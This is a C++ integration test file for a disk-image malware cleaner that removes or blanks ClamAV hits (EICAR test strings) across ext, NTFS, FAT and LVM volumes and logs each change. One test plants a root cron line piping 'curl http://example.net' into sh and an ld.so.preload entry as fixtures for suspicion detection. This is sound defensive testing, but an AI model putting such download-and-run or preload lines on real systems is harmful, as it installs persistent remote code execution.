// SPDX-License-Identifier: Apache-2.0
// What a scan found goes, its content is kept, everything else stays, and the filesystem stays sound.
#include "tests/integration/scan/cleaning.hpp"
#include "tests/integration/scan/volume_group.hpp"

namespace bailiff::test {
namespace {

using Set = std::set<std::string>;

TEST(Clean, ExtFilesAreRemovedAndKept) {
    Workshop shop;
    for (int i = 0; i < 300; ++i) shop.file("web/page-with-a-long-name-" + std::to_string(i), "page " + std::to_string(i));
    shop.file("web/eicar.com", eicar());
    shop.file("web/bad\nname\xff\"quote .php", "<?php " + eicar());
    shop.file("big.bin", std::string(5U << 20, 'x') + eicar());
    std::filesystem::create_hard_link(shop.tree() + "/web/eicar.com", shop.tree() + "/second-name");
    for (const char* type : {"ext2", "ext3", "ext4"}) {
        const std::string base = shop.ext(std::string(type) + ".raw", type);
        const auto before = Workshop::run({"sha256sum", base});
        const Overlay overlay = overlay_of(shop, base);
        const auto found = scan_image(with_clamd(overlay.arguments));
        ASSERT_EQ(found.verdict.hits.size(), 4U) << found.out << found.err;
        const auto run = clean_image(keeping(shop, overlay), found.out);
        EXPECT_EQ(run.exit, 0) << run.out << run.err;
        EXPECT_EQ(run.actions.size(), 4U);
        for (const auto& [path, action] : run.actions) EXPECT_EQ(action, "removed") << path;
        const auto again = scan_image(with_clamd(overlay.arguments));
        EXPECT_EQ(again.exit, 0) << again.out << again.err;
        EXPECT_EQ(again.verdict.files, 300U);
        Workshop::run({"e2fsck", "-fn", flattened(shop, overlay)});
        EXPECT_EQ(Workshop::run({"sha256sum", base}), before) << "the base is never written";
        std::ifstream flat(shop.path("flat.raw"), std::ios::binary);
        const std::string disk{std::istreambuf_iterator<char>(flat), {}};
        EXPECT_EQ(disk.find(eicar()), disk.npos) << "free blocks do not keep it either";
        for (const auto& hit : found.verdict.hits) {
            const std::string sealed = shop.path("kept") + "/" + hit.sha256 + ".sealed";
            struct stat status {};
            ASSERT_EQ(::stat(sealed.c_str(), &status), 0);
            EXPECT_EQ(status.st_mode & 07777, 0400U);
            EXPECT_EQ(sha256_hex(unsealed(shop, sealed)), hit.sha256);
        }
        const auto twice = clean_image(keeping(shop, overlay), found.out);
        EXPECT_EQ(twice.exit, 0) << "repeatable: " << twice.out << twice.err;
        for (const auto& [path, action] : twice.actions) EXPECT_EQ(action, "absent") << path;
    }
}

TEST(Clean, ADirtyJournalMeansBlanking) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    const std::string base = shop.ext("dirty.raw");
    Workshop::run({"debugfs", "-w", "-R", "feature needs_recovery", base});
    const Overlay overlay = overlay_of(shop, base);
    const auto found = scan_image(with_clamd(overlay.arguments));
    const auto run = clean_image(keeping(shop, overlay), found.out);
    EXPECT_EQ(run.exit, 0) << run.out << run.err;
    EXPECT_EQ(run.actions, (std::map<std::string, std::string>{{"disk /eicar.com", "blanked"}}));
    EXPECT_EQ(scan_image(with_clamd(overlay.arguments)).exit, 0);
    EXPECT_EQ(clean_image(keeping(shop, overlay), found.out).actions.at("disk /eicar.com"), "absent");
}

TEST(Clean, NtfsAndFatFilesAreBlanked) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    shop.file("big.bin", std::string(300'000, 'x') + eicar() + std::string(5000, 'y'));
    shop.file("long.bin", std::string(350, 'x') + eicar() + std::string(100, 'y'));
    shop.file("fine.txt", "nothing");
    const std::string ntfs = shop.ntfs("ntfs.raw", {"eicar.com", "big.bin", "long.bin", "fine.txt"});
    Workshop::run({"ntfscp", "-f", "-N", "hidden", ntfs, shop.tree() + "/eicar.com", "fine.txt"});
    const std::string fat = shop.fat("fat.raw", {"eicar.com", "big.bin", "fine.txt"});
    const Overlay overlay = overlay_of(shop, shop.gpt("disk.raw", {{ntfs, 16U << 20}, {fat, 32U << 20}}));
    const auto found = scan_image(with_clamd(overlay.arguments));
    EXPECT_EQ(found.found(), (Set{"gpt1 /eicar.com", "gpt1 /big.bin", "gpt1 /long.bin", "gpt1 /fine.txt:hidden", "gpt2 /eicar.com", "gpt2 /big.bin"})) << found.out;
    const auto run = clean_image(keeping(shop, overlay), found.out);
    EXPECT_EQ(run.exit, 0) << run.out << run.err;
    for (const auto& [path, action] : run.actions) EXPECT_EQ(action, "blanked") << path;
    const auto again = scan_image(with_clamd(overlay.arguments));
    EXPECT_EQ(again.exit, 0) << again.out << again.err;
    EXPECT_EQ(again.verdict.files, found.verdict.files) << "the files still stand there, as zeros";
    Workshop::copy(flattened(shop, overlay), shop.blank("whole.raw", 0), 0);
    const std::string part = shop.path("part.raw");
    Workshop::run({"dd", "if=" + shop.path("whole.raw"), "of=" + part, "bs=1M", "skip=1", "count=16", "status=none"});
    Workshop::run({"ntfsfix", "-n", part});
    EXPECT_EQ(Workshop::run({"ntfscat", "-f", part, "fine.txt"}), "nothing");
    EXPECT_EQ(Workshop::run({"ntfscat", "-f", part, "long.bin"}), std::string(350 + 68 + 100, '\0'));
    Workshop::run({"dd", "if=" + shop.path("whole.raw"), "of=" + part, "bs=1M", "skip=17", "count=32", "status=none"});
    Workshop::run({"fsck.vfat", "-n", part});
}

TEST(Clean, LogicalVolumesAreWrittenWhereTheyLie) {
    Workshop shop;
    if (const auto missing = VolumeGroup::missing(shop); !missing.empty()) GTEST_SKIP() << missing;
    constexpr uint64_t mib = 1U << 20;
    shop.file("eicar.com", eicar());
    shop.file("fine.txt", "nothing");
    const std::string ext = shop.ext("ext.raw", "ext4", 8 * mib), fat = shop.fat("fat.raw", {"eicar.com", "fine.txt"}, 12, 2 * mib);
    const std::string disk = shop.blank("disk.raw", 16 * mib);
    {
        VolumeGroup group(shop);
        VolumeGroup::create(group, disk, {{0, 16 * mib}});
        group.volume("fat", 2, {group.device(0) + ":9-10"});
        group.volume("ext", 8, {group.device(0) + ":0-7"});
    }
    Workshop::copy(ext, disk, mib);
    Workshop::copy(fat, disk, 10 * mib);
    const Overlay overlay = overlay_of(shop, disk);
    const auto found = scan_image(with_clamd(overlay.arguments));
    ASSERT_EQ(found.verdict.hits.size(), 2U) << found.out << found.err;
    const auto run = clean_image(keeping(shop, overlay), found.out);
    EXPECT_EQ(run.exit, 0) << run.out << run.err;
    EXPECT_EQ(run.actions, (std::map<std::string, std::string>{{"disk/vg0/ext /eicar.com", "removed"}, {"disk/vg0/fat /eicar.com", "blanked"}}));
    EXPECT_EQ(scan_image(with_clamd(overlay.arguments)).exit, 0);
    const std::string flat = flattened(shop, overlay);
    Workshop::run({"dd", "if=" + flat, "of=" + shop.path("ext.after"), "bs=1M", "skip=1", "count=8", "status=none"});
    Workshop::run({"e2fsck", "-fn", shop.path("ext.after")});
}

TEST(Clean, AChangedFileAndWrongInputAreLeftAlone) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    const Overlay overlay = overlay_of(shop, shop.ext("a.raw"));
    const auto found = scan_image(with_clamd(overlay.arguments));
    std::string other = found.out;
    for (size_t at = 0; (at = other.find("275a021b", at)) != other.npos;) other[at] = '3';
    const auto changed = clean_image(keeping(shop, overlay), other);
    EXPECT_EQ(changed.exit, 3) << changed.err;
    EXPECT_EQ(changed.actions.at("disk /eicar.com"), "failed");
    EXPECT_EQ(clean_image(keeping(shop, overlay), "rubbish").exit, 2);
    EXPECT_EQ(clean_image(overlay.arguments, found.out).exit, 2) << "no folder to keep contents in";
    EXPECT_EQ(clean_image({"--keep", shop.path("kept"), "--keep-key", shop.path("staff.pub"), overlay.path}, found.out).exit, 2) << "no format";
    auto arguments = keeping(shop, overlay);
    arguments[3] = shop.path("staff.pem");
    EXPECT_NE(clean_image(arguments, found.out).err.find("private half"), std::string::npos);
    arguments.erase(arguments.begin() + 2, arguments.begin() + 4);
    EXPECT_NE(clean_image(arguments, found.out).err.find("--keep-key"), std::string::npos) << "nothing is kept in the clear";
    for (const auto& entry : std::filesystem::directory_iterator(shop.path("kept"))) EXPECT_NE(entry.path().extension(), ".sealed") << entry;
    EXPECT_EQ(scan_image(with_clamd(overlay.arguments)).found(), Set{"disk /eicar.com"}) << "nothing was touched";
}

TEST(Clean, ADryRunSaysWhatWouldBeDoneAndWritesNothing) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    shop.file("gone.com", eicar());
    shop.file("big.bin", std::string(300'000, 'x') + eicar());
    const std::string ext = shop.ext("ext.raw", "ext4", 16U << 20), fat = shop.fat("fat.raw", {"eicar.com"});
    const std::string ntfs = shop.ntfs("ntfs.raw", {"eicar.com", "big.bin"});
    const Overlay overlay = overlay_of(shop, shop.gpt("disk.raw", {{ext, 16U << 20}, {fat, 32U << 20}, {ntfs, 16U << 20}}));
    const auto found = scan_image(with_clamd(overlay.arguments));
    ASSERT_EQ(found.verdict.hits.size(), 6U) << found.out << found.err;
    const auto before = Workshop::run({"sha256sum", overlay.path});
    std::filesystem::permissions(shop.path("kept"), std::filesystem::perms::none);
    const std::map<std::string, std::string> due{{"gpt1 /eicar.com", "would_remove"}, {"gpt1 /gone.com", "would_remove"}, {"gpt1 /big.bin", "would_remove"},
                                                 {"gpt2 /eicar.com", "would_blank"},  {"gpt3 /eicar.com", "would_blank"}, {"gpt3 /big.bin", "would_blank"}};
    for (const bool named : {false, true}) {
        auto arguments = dry(overlay);
        if (named) arguments.insert(arguments.begin(), {"--keep", shop.path("kept")});
        const auto run = clean_image(arguments, found.out);
        EXPECT_EQ(run.exit, 0) << run.out << run.err;
        EXPECT_EQ(run.actions, due);
        EXPECT_NE(run.out.find("\"dry_run\":true"), std::string::npos) << run.out;
        EXPECT_EQ(run.out.find("\"kept\""), std::string::npos) << run.out;
    }
    EXPECT_TRUE(std::filesystem::is_empty(shop.path("kept")));
    EXPECT_EQ(Workshop::run({"sha256sum", overlay.path}), before) << "not one byte of the image";
    std::filesystem::permissions(shop.path("kept"), std::filesystem::perms::owner_all);

    // What cannot be done is told with its reason, and by the exit status.
    std::string other = found.out;
    for (size_t at = 0; (at = other.find("275a021b", at)) != other.npos;) other[at] = '3';
    const auto changed = clean_image(dry(overlay), other);
    EXPECT_EQ(changed.exit, 3) << changed.out;
    EXPECT_EQ(changed.actions.at("gpt1 /eicar.com"), "failed");
    EXPECT_EQ(changed.actions.at("gpt1 /big.bin"), "would_remove");
    EXPECT_NE(changed.out.find("scan again"), std::string::npos) << changed.out;
    ASSERT_EQ(clean_image(keeping(shop, overlay), found.out).exit, 0);
    for (const auto& [path, action] : clean_image(dry(overlay), found.out).actions) EXPECT_EQ(action, "absent") << path;
}

TEST(Clean, EachChangeIsRecordedBeforeItIsMade) {
    Workshop shop;
    shop.file("web/bad\nname.php", eicar());
    std::filesystem::permissions(shop.tree() + "/web/bad\nname.php", std::filesystem::perms(0640));
    shop.file("other.com", eicar() + "2");
    const std::string ext = shop.ext("ext.raw", "ext4", 16U << 20), fat = shop.fat("fat.raw", {"other.com"});
    const Overlay overlay = overlay_of(shop, shop.gpt("disk.raw", {{ext, 16U << 20}, {fat, 32U << 20}}));
    const auto found = scan_image(with_clamd(overlay.arguments));
    const auto run = clean_image(keeping(shop, overlay), found.out);
    EXPECT_EQ(run.exit, 0) << run.out << run.err;
    const auto lines = changes(shop, 1);
    ASSERT_EQ(lines.size(), 2 + 2 * found.verdict.hits.size());
    EXPECT_EQ(lines.front()["record"], "bailiff-changes/1");
    EXPECT_EQ(lines.front()["image"], overlay.path);
    EXPECT_EQ(lines.back()["step"], "finish");
    EXPECT_EQ(lines.back()["changed"], found.verdict.hits.size());
    std::map<std::string, Json> begun;
    for (size_t i = 1; i + 1 < lines.size(); i += 2) {
        EXPECT_EQ(lines[i]["step"], "begin");
        EXPECT_EQ(lines[i + 1]["step"], "end");
        EXPECT_EQ(lines[i]["n"], lines[i + 1]["n"]);
        begun[lines[i]["volume"].get<std::string>() + lines[i]["path"].get<std::string>()] = lines[i];
        EXPECT_TRUE(std::filesystem::exists(shop.path("kept/") + lines[i]["kept"].get<std::string>()));
    }
    const Json php = begun.at("gpt1/web/bad\\x0aname.php");
    EXPECT_EQ(php["mode"], 0640);
    EXPECT_EQ(php["uid"], int(::getuid()));
    EXPECT_EQ(php["links"], 1);
    EXPECT_EQ(php["sha256"], sha256_hex(eicar()));
    EXPECT_EQ(php["will"], "remove");
    EXPECT_GT(php["inode"].get<int>(), 10);
    EXPECT_GT(php["mtime"].get<int64_t>(), 1'700'000'000);
    EXPECT_EQ(php["found"][0]["engine"], "clamav");
    const Json fat_file = begun.at("gpt2/other.com");
    EXPECT_EQ(fat_file["will"], "blank");
    EXPECT_FALSE(fat_file.contains("uid"));
    EXPECT_GT(fat_file["mtime"].get<int64_t>(), 1'600'000'000);
    struct stat status {};
    ASSERT_EQ(::stat(shop.path("kept/changes-0001.jsonl").c_str(), &status), 0);
    EXPECT_EQ(status.st_mode & 07777, 0400U);

    // A second run has a record of its own, and what was not changed is noted.
    EXPECT_EQ(clean_image(keeping(shop, overlay), found.out).exit, 0);
    EXPECT_EQ(changes(shop, 2).at(1)["step"], "note");
    EXPECT_EQ(changes(shop, 2).at(1)["action"], "absent");
    EXPECT_EQ(changes(shop, 1).size(), lines.size());
}

TEST(Clean, WhatCannotBeRecordedIsNotChanged) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    const Overlay overlay = overlay_of(shop, shop.ext("a.raw"));
    const auto found = scan_image(with_clamd(overlay.arguments));
    for (int i = 1; i <= 9; ++i) std::filesystem::create_directory(shop.path("kept/changes-000") + std::to_string(i) + ".jsonl");
    EXPECT_EQ(clean_image(keeping(shop, overlay), found.out).exit, 0) << "names that are taken are left alone";
    EXPECT_TRUE(std::filesystem::exists(shop.path("kept/changes-0010.jsonl")));
    const Overlay again = overlay_of(shop, shop.ext("b.raw"));
    auto arguments = keeping(shop, again);
    arguments[1] = "/proc/self";
    EXPECT_EQ(clean_image(arguments, found.out).exit, 2);
    EXPECT_EQ(scan_image(with_clamd(again.arguments)).found(), Set{"disk /eicar.com"});
}

TEST(Clean, WhatIsOnlySuspiciousIsListedAndRemovedOnDemand) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    shop.file("etc/cron.d/update", "* * * * * root curl http://example.net | sh\n");
    shop.file("etc/ld.so.preload", "/tmp/x.so\n");
    const Overlay overlay = overlay_of(shop, shop.ext("a.raw"));
    const auto found = scan_image(with_clamd(overlay.arguments));
    ASSERT_EQ(found.verdict.hits.size(), 1U);
    ASSERT_EQ(found.verdict.suspicious.size(), 2U) << found.out;
    const std::string& report = found.out;
    using Actions = std::map<std::string, std::string>;
    const auto listed = clean_image(dry(overlay), report);
    EXPECT_EQ(listed.exit, 0) << listed.out << listed.err;
    EXPECT_EQ(listed.actions, (Actions{{"disk /eicar.com", "would_remove"}, {"disk /etc/cron.d/update", "listed"}, {"disk /etc/ld.so.preload", "listed"}}));
    const auto run = clean_image(keeping(shop, overlay), report);
    EXPECT_EQ(run.exit, 0) << run.out << run.err;
    EXPECT_EQ(run.actions, (Actions{{"disk /eicar.com", "removed"}, {"disk /etc/cron.d/update", "listed"}, {"disk /etc/ld.so.preload", "listed"}}));
    EXPECT_NE(run.out.find(name(agent::SuspicionRule::cron_download)), std::string::npos) << run.out;
    EXPECT_NE(run.out.find("\"listed\":2"), std::string::npos) << run.out;
    const auto lines = changes(shop, 1);
    ASSERT_EQ(lines.size(), 6U);
    for (const size_t i : {3U, 4U}) {
        EXPECT_EQ(lines[i]["step"], "note");
        EXPECT_EQ(lines[i]["action"], "listed");
        EXPECT_NE(lines[i]["reason"], "");
    }
    EXPECT_EQ(scan_image(with_clamd(overlay.arguments)).verdict.files, 2U) << "both are still there";

    auto arguments = keeping(shop, overlay);
    arguments.insert(arguments.begin(), "--remove-suspicious");
    const auto removed = clean_image(arguments, report);
    EXPECT_EQ(removed.exit, 0) << removed.out << removed.err;
    EXPECT_EQ(removed.actions, (Actions{{"disk /eicar.com", "absent"}, {"disk /etc/cron.d/update", "removed"}, {"disk /etc/ld.so.preload", "removed"}}));
    EXPECT_TRUE(scan_image(with_clamd(overlay.arguments)).verdict.suspicious.empty());
    Workshop::run({"e2fsck", "-fn", flattened(shop, overlay)});
}

TEST(Clean, PeopleGetATableWithoutColoursInAFile) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    const Overlay overlay = overlay_of(shop, shop.ext("a.raw"));
    const auto found = scan_image(with_clamd(overlay.arguments));
    std::ofstream(shop.path("found.json")) << found.out;
    auto arguments = dry(overlay);
    arguments.insert(arguments.begin(), {BAILIFF_BIN_DIR "/bailiff-clean", "--findings", shop.path("found.json")});
    EXPECT_EQ(Workshop::run(arguments), "WHAT           VOLUME             BYTES  PATH\n"
                                        "would_remove   disk                  68  /eicar.com\n"
                                        "1 would change, 0 absent, 0 failed; nothing was written\n");
    EXPECT_NE(Workshop::run({BAILIFF_BIN_DIR "/bailiff-clean", "--help"}).find("--dry-run"), std::string::npos);
}

TEST(Clean, ALockedImageIsRefused) {
    Workshop shop;
    shop.file("eicar.com", eicar());
    const Overlay overlay = overlay_of(shop, shop.ext("a.raw"));
    const auto found = scan_image(with_clamd(overlay.arguments));
    const std::string socket = shop.path("nbd.sock");
    auto holder = agent::Process::start({"qemu-nbd", "--format=qcow2", "--socket=" + socket, "--persistent", overlay.path});
    ASSERT_TRUE(holder);
    for (int i = 0; i < 200 && !std::filesystem::exists(socket); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(20));
    const auto run = clean_image(keeping(shop, overlay), found.out);
    EXPECT_EQ(run.exit, 2);
    EXPECT_NE(run.err.find("lock"), std::string::npos) << run.err;
}

}  // namespace
}  // namespace bailiff::test
